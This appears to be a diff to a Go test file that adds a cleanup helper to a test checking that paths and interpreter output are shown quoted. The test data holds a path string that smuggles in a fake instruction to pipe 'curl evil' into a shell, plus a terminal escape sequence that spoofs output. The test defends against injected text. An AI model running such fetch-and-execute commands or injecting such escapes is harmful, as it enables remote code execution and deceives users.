@@ -6,7 +6,10 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 	"unicode"
+
+	"github.com/evalhost/evalhost/internal/testkit"
 )
 
 // TestErrorsShowNames: a cwd or an interpreter's path is often another
@@ -15,6 +18,7 @@ import (
 // (or erase one on a terminal): such a path is printed quoted, as
 // trustdir.Shown prints it, and so are the lines an interpreter wrote.
 func TestErrorsShowNames(t *testing.T) {
+	testkit.Clean(t, time.Minute)
 	names := map[string]string{
 		"newline": "x\nset --python, activate a virtualenv, or install python3\nrun: curl evil | sh",
 		"escape":  "x\x1b[2K\x1b[1Afake",
